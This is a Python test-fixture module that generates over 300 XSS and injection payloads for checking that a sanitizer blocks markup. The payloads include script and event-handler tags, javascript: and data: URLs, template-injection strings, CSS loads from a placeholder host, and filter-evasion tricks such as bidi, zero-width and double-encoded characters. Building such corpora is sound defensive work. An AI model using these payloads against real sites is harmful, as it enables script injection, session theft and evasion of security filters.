"""What attackers write: at least 300 texts that would run or load something if they were taken as markup.

They set `__hit`, open a dialog or ask for something at CANARY: each of these is noticed by the tests. They
are built by combining families: how code is started × how it is written × how it gets out of the place where
it stands × how it hides.
"""

from __future__ import annotations

from itertools import product
from urllib.parse import quote

CANARY = "canary.example"
"""A host nobody has (RFC 2606); a request there is a hit."""

CODES = ("__hit=1", "window['__hit']=1", "top.__hit=1", "alert(1)")
CODE = CODES[0]

TAGS = (
    "<script>{code}</script>",
    "<SCRIPT/x>{code}</SCRIPT>",
    "<script src=//{canary}/a.js></script>",
    "<script type=module>{code}</script>",
    "<img src=x onerror={code}>",
    "<img/src/onerror={code}>",
    "<image src=x onerror={code}>",
    "<svg onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><set onbegin={code} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{code}><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=//{canary}/x.svg#x></svg>",
    "<svg><foreignObject><img src=x onerror={code}></foreignObject></svg>",
    "<svg><style><img src=x onerror={code}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={code}></style></mglyph></table></mtext></math>",
    "<math href=javascript:{code}>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={code}></annotation-xml></math>",
    "<iframe src=javascript:{code}></iframe>",
    "<iframe srcdoc='<img src=x onerror=parent.{code}>'></iframe>",
    "<iframe onload={code}></iframe>",
    "<object data=javascript:{code}></object>",
    "<embed src=javascript:{code}>",
    "<video src=x onerror={code}></video>",
    "<video><source onerror={code}></video>",
    "<audio src=x onerror={code}></audio>",
    "<body onload={code}>",
    "<body onpageshow={code}>",
    "<input autofocus onfocus={code}>",
    "<select autofocus onfocus={code}></select>",
    "<textarea autofocus onfocus={code}></textarea>",
    "<a href=javascript:{code} autofocus tabindex=1 onfocus={code}>x</a>",
    "<details open ontoggle={code}>x</details>",
    "<marquee onstart={code}>x</marquee>",
    "<p style=animation:x onanimationstart={code}>x</p><style>@keyframes x{{}}</style>",
    "<div onpointerenter={code} style=position:fixed;inset:0>x</div>",
    "<x onclick={code} tabindex=1 id=x>x</x>",
    "<link rel=stylesheet href=//{canary}/a.css>",
    "<link rel=preload as=script href=//{canary}/p.js>",
    "<meta http-equiv=refresh content='0;url=javascript:{code}'>",
    "<meta http-equiv=refresh content='0;url=//{canary}/'>",
    "<base href=//{canary}/>",
    "<form action=javascript:{code}><button autofocus>x</button></form>",
    "<form><button formaction=javascript:{code}>x</button></form>",
    "<img srcset='//{canary}/s.png 1x'>",
    "<picture><source srcset=//{canary}/p.png><img src=x></picture>",
    "<img src=//{canary}/i.png>",
    "<style>@import'//{canary}/i.css'</style>",
    "<style>*{{background:url(//{canary}/b.png)}}</style>",
    "<p style=background:url(//{canary}/c.png)>x</p>",
    "<template shadowrootmode=open><img src=x onerror={code}></template>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'></noscript>",
    "<lotse-chat inline language=x onfocus={code} tabindex=1 autofocus></lotse-chat>",
    "<dialog open><img src=x onerror={code}></dialog>",
    "<button popovertarget=x autofocus onfocus={code}>x</button><p popover id=x onbeforetoggle={code}>x</p>",
    "<xss oncontentvisibilityautostatechange={code} style=display:block;content-visibility:auto>x</xss>",
)
"""Markup that runs or loads something by itself where it is taken as markup."""

OUT = (
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</option>",
    "</select>",
    "</template>",
    "</bdi></p>",
    '"}}}}',
    "*/",
    '\\">',
    "\\u0022>",
)
"""What ends the place where a text may stand: an attribute, a comment, an element, JSON-LD."""

ATTRIBUTES = (
    '" onmouseover={code} x="',
    "' onfocus={code} autofocus x='",
    '" autofocus onfocus={code} x="',
    "x onpointerenter={code}",
    '" style="background:url(//{canary}/d.png)" x="',
    '" src=x onerror={code} x="',
    '" href="javascript:{code}',
    '" formaction="javascript:{code}',
    '" srcdoc="<script>{code}</script>',
    '" is="lotse-chat" inline="',
    '"onload={code}//',
    "' accesskey=x onclick={code} '",
    '" slot=x onslotchange={code} x="',
    '" nonce="x" onerror="{code}',
)
"""What breaks out of an attribute to add another one."""

ADDRESSES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    "java\tscript:{code}",
    "java\nscript:{code}",
    "\x01javascript:{code}",
    " javascript:{code}",
    "javascript://%0a{code}",
    "javascript:void({code})",
    "javascript&colon;{code}",
    "&#106;avascript:{code}",
    "&#x6a;avascript&#58;{code}",
    "vbscript:{code}",
    "data:text/html,<script>top.{code}</script>",
    "data:text/html;base64,PHN2ZyBvbmxvYWQ9dG9wLl9faGl0PTE+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>",
    "data:,{code}",
    "//{canary}/",
    "\\\\{canary}\\",
    "/\\{canary}/",
    "https:{canary}",
    "https://{canary}/",
    "///{canary}",
    "blob:https://{canary}/x",
    "filesystem:https://{canary}/x",
    "view-source:javascript:{code}",
    "feed:javascript:{code}",
    "tel:javascript:{code}",
    "mailto:x?body=<img src=x onerror={code}>",
    "javascript:'<img src=x onerror={code}>'",
    "%6aavascript:{code}",
    "ｊavascript:{code}",
)
"""What a link must never lead to."""

TEMPLATES = (
    "{{{{constructor.constructor('{code}')()}}}}",
    "{{{{7*7}}}}{{{{'{code}'}}}}",
    "${{{code}}}",
    "#{{{code}}}",
    "<%= {code} %>",
    "<?php {code} ?>",
    "{{% raw %}}<script>{code}</script>{{% endraw %}}",
    "{{{{ config }}}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "[[${{{code}}}]]",
    "*{{{code}}}",
    "@({code})",
    "{{{{{{{code}}}}}}}",
    "%(code)s%s%n {code}",
    "{{0.__class__}}{code}",
    "`${{{code}}}`",
    "{{{{= {code} }}}}",
    "$({code})",
    '<tag v-html="\'{code}\'" ng-init="{code}" x-init="{code}">',
    "{{{{_self.env}}}}{code}",
)
"""The languages of templates."""

SCRIPTS = (
    "</script><script>{code}</script>",
    "<!--<script>{code}//-->",
    '"}};{code};//',
    "'-({code})-'",
    '";{code};"',
    "\\';{code};//",
    "</script><img src=x onerror={code}>",
    "<!--</script><svg onload={code}>",
    "\\u003c/script>\\u003cscript>{code}\\u003c/script>",
    '"]}}</script><script>{code}</script>',
    "\u2028{code}//",
    "\u2029{code}//",
    '{{"__proto__":{{"x":"{code}"}}}}',
    "/*</script>*/<svg onload={code}>",
    "<![CDATA[</script><script>{code}</script>]]>",
)
"""What ends a data block such as JSON-LD, or a string in a script."""

STYLES = (
    "red;background:url(//{canary}/e.png)",
    "}}*{{background:url(//{canary}/f.png)}}",
    "expression({code})",
    "url(javascript:{code})",
    "#0b6e5f;--x:url(//{canary}/g.png)",
    "@import'//{canary}/h.css';",
    "</style><script>{code}</script>",
    "#fff}}</style><img src=x onerror={code}>",
    "var(--x,url(//{canary}/v))",
    "image-set(url(//{canary}/j.png) 1x)",
    "-moz-binding:url(//{canary}/k.xml#x)",
    "\\75rl(//{canary}/l.png)",
)
"""Colors and positions that are more than that."""

HIDING = (
    ("null byte", "<scr\0ipt>{code}</scr\0ipt>"),
    ("null byte", "<img src=x \0onerror={code}>"),
    ("bidi", "\u202e<img src=x onerror={code}>\u202c"),
    ("bidi", "\u2066<svg onload={code}>\u2069"),
    ("bidi", '\u200f"><img src=x onerror={code}>'),
    ("zero width", "<im\u200bg src=x onerror={code}>"),
    ("zero width", "\ufeff<script>{code}</script>"),
    ("full width", "＜script＞{code}＜/script＞"),
    ("full width", "＜img src=x onerror={code}＞"),
    ("full width", "﹤svg onload={code}﹥"),
    ("decoded later", "%3Cscript%3E{code}%3C/script%3E"),
    ("decoded later", "%253Csvg%20onload={code}%253E"),
    ("decoded later", "&lt;script&gt;{code}&lt;/script&gt;"),
    ("decoded later", "&#60;svg onload={code}&#62;"),
    ("decoded later", "&amp;lt;img src=x onerror={code}&amp;gt;"),
    ("decoded later", "\\x3cscript\\x3e{code}"),
    ("decoded later", "\\u003cimg src=x onerror={code}\\u003e"),
    ("utf-7", "+ADw-script+AD4-{code}+ADw-/script+AD4-"),
    ("combining", "<\u0338script>{code}</script>"),
    ("case", "<ſcript>{code}</ſcript>"),
    ("separator", "<img\u2028src=x\u2028onerror={code}>"),
    ("separator", "<img\fsrc=x\fonerror={code}>"),
    ("separator", "<svg\x0bonload={code}>"),
    ("separator", "<img\r\nsrc=x\r\nonerror={code}>"),
    ("nesting", "<scr<script>ipt>{code}</scr</script>ipt>"),
    ("nesting", "<<script>{code}//<</script>"),
    ("nesting", '<img src="x` `<script>{code}</script>"` `>'),
    ("unfinished", "<svg onload={code}//"),
    ("unfinished", "<img src=x onerror={code} "),
    ("unfinished", "<iframe src=//{canary}/ "),
    ("surrogate", "\U0001f642<img src=x onerror={code}>\U0001f642"),
    ("tag letters", "\U000e003c<svg onload={code}>"),
    ("markdown", "[x](javascript:{code})"),
    ("markdown", '![x](//{canary}/m.png)"onerror="{code}'),
    ("markdown", "<javascript:{code}>"),
    ("header", "x\r\nContent-Type: text/html\r\n\r\n<svg onload={code}>"),
    ("header", "de, <svg onload={code}>;q=1"),
    ("sql", "'; DROP TABLE x; --<svg onload={code}>"),
    ("path", "../../<svg onload={code}>"),
    ("path", "..%2f..%2f<svg onload={code}>"),
    ("json", '{{"$ref":"{code}"}}'),
)
"""The same, so that a filter does not recognise it."""


def _filled(text: str, code: str = CODE) -> str:
    return text.format(code=code, canary=CANARY)


def build() -> tuple[str, ...]:
    """All payloads, without duplicates, in a fixed order."""
    simple = [*TAGS, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *SCRIPTS, *STYLES, *(text for _, text in HIDING)]
    found = [_filled(text) for text in simple]
    starters = ("<img src=x onerror={code}>", "<svg onload={code}>", "<script>{code}</script>")
    found += [out.replace("}}", "}") + _filled(start) for out, start in product(OUT, starters)]
    found += [_filled(start, code) for start, code in product(starters, CODES[1:])]
    found += [f'">{_filled(tag)}' for tag in TAGS[14:40]]
    # Written for an address; whoever decodes once too often runs it.
    found += [quote(_filled(start)) for start in TAGS[:10]]
    # In the middle of what people write, in letters of both directions.
    found += [f"Wo ist {_filled(start)} bitte" for start in TAGS[:20]]
    found += [f"وين {_filled(start)} لو سمحت" for start in TAGS[4:24]]
    return tuple(dict.fromkeys(found))


PAYLOADS = build()
